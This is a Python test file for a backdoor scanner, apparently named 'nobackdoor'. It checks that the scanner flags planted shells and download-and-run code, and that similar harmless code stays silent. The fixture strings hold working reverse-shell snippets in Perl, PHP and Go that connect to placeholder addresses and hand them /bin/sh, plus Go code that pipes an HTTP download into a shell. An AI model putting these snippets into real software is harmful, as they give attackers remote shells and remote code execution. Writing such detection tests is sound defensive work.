"""Shells handed to a connection, code fetched and run, and credentials sent away: the planted
shapes that must be found, each with the honest code beside it that must stay silent."""
from __future__ import annotations

from pathlib import Path

from nobackdoor.analyzers.source.code import analyze_source
from nobackdoor.analyzers.source.patterns import patterns
from nobackdoor.models import FileEntry, FileKind


def findings(rel: str, language: str, src: str):
    data = src.encode()
    e = FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
                  content=data)
    return [f for f in analyze_source(e, data, patterns()) if hasattr(f, "rule")]


def rules(rel: str, language: str, src: str) -> list[str]:
    return sorted(f.rule for f in findings(rel, language, src) if f.severity.value in ("high", "critical"))


# ---------------------------------------------------------------- streams joined to a shell

PERL_DUP = ("package Tool::Diag;\nuse Socket;\n"
            "if (fork() == 0) {\n"
            "    socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
            "    if (connect(S, sockaddr_in(4100, inet_aton('198.51.100.7')))) {\n"
            "        open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n"
            "        exec('/bin/sh -i');\n    }\n    exit 0;\n}\n1;\n")


def test_perl_handles_duplicated_from_a_socket_onto_a_shell():
    assert rules("lib/Tool/Diag.pm", "perl", PERL_DUP) == ["source.shell-served"]


def test_perl_stderr_joined_to_stdout_beside_a_database_connection_is_silent():
    honest = ("use DBI;\nmy $db = DBI->connect('dbi:SQLite:x.db');\n"
              "open(STDERR, '>&STDOUT');\nexec('/bin/sh -i');\n")
    assert rules("bin/tool.pl", "perl", honest) == []


def test_shell_command_reading_from_an_opened_descriptor():
    php = ("<?php\nfunction ping_mirror(): void {\n    $sock = @fsockopen('192.0.2.9', 4100);\n"
           "    if ($sock) {\n        exec('/bin/sh -i <&3 >&3 2>&3');\n    }\n}\n")
    assert rules("lib/update.php", "php", php) == ["source.shell-served"]
    # its own output joined to its error stream is ordinary
    honest = php.replace("<&3 >&3 2>&3", "2>&1").replace("/bin/sh -i", "/bin/sh -c 'uptime'")
    assert rules("lib/update.php", "php", honest) == []


GO_CONN = ('package main\nimport ("net"; "os/exec")\n'
           'func probe() {\n'
           '\tif c, err := net.Dial("tcp", "192.0.2.8:4100"); err == nil {\n'
           '\t\tcmd := exec.Command("/bin/sh", "-i")\n'
           '\t\tcmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\n'
           '\t\t_ = cmd.Run()\n\t}\n}\n')


def test_go_process_streams_set_to_a_connection():
    assert rules("cmd/x/main.go", "go", GO_CONN) == ["source.shell-served"]
    # the program's own terminal, beside a connection used for something else
    honest = GO_CONN.replace("cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c",
                             "cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr; c.Close()")
    assert rules("cmd/x/main.go", "go", honest) == []


def test_go_shell_reading_a_download_as_its_script():
    go = ('package update\nimport ("net/http"; "os/exec")\n'
          'func Check() {\n'
          '\tif resp, err := http.Get("http://updates.invalid/x.sh"); err == nil {\n'
          '\t\tcmd := exec.Command("/bin/sh")\n\t\tcmd.Stdin = resp.Body\n\t\t_ = cmd.Run()\n\t}\n}\n')
    got = findings("internal/update/update.go", "go", go)
    assert [(f.rule, f.severity.value) for f in got] == [("source.eval-downloaded", "critical")]
    # a fixed local script as its input is not a download
    honest = go.replace("cmd.Stdin = resp.Body", "cmd.Stdin = strings.NewReader(localScript); resp.Body.Close()")
    assert rules("internal/update/update.go", "go", honest) == []
